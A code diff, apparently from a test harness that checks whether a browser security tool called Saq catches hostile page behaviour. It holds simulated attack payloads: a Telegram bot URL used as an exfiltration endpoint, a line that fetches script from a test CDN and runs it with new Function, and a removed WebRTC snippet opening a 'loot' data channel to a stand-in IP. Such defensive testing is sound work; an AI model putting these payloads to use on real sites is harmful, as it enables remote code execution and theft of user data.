@@ -7,6 +7,7 @@
  * Every step is wrapped so a failure is logged in `window.__hostileLog` instead of thrown: the page must
  * have no uncaught errors of its own, so that any that appear are Saq's.
  */
+import { HARD_CODED_PEER } from './main-world.ts';
 export const HELPER_CDN = 'helper-cdn.test';
 /** Exfiltration endpoints; `tag` makes each attack's requests (and the verdicts about them) tell apart. */
 export const telegramUrl = (tag: string): string => `https://api.telegram.org/bot1:${tag}/sendMessage`;
@@ -462,14 +463,7 @@ export function speciesHelper(payloadTag: string): string {
   return `${HASHED_INLINE_HELPER}
 fetch('https://${HELPER_CDN}/${payloadTag}.js').then((r) => r.text()).then((code) => new Function(code)());
 (async () => {
-  const pc = new RTCPeerConnection();
-  pc.createDataChannel('loot');
-  await pc.setLocalDescription(await pc.createOffer());
-  const answerer = new RTCPeerConnection();
-  await answerer.setRemoteDescription(pc.localDescription);
-  await answerer.setLocalDescription(await answerer.createAnswer());
-  const sdp = answerer.localDescription.sdp.replace(/(a=setup:\\w+)/, '$1\\r\\na=candidate:1 1 udp 2122260223 203.0.113.7 3479 typ host');
-  await pc.setRemoteDescription({ type: 'answer', sdp });
+  ${HARD_CODED_PEER}
   window.__speciesPeer = true;
 })();`;
 }
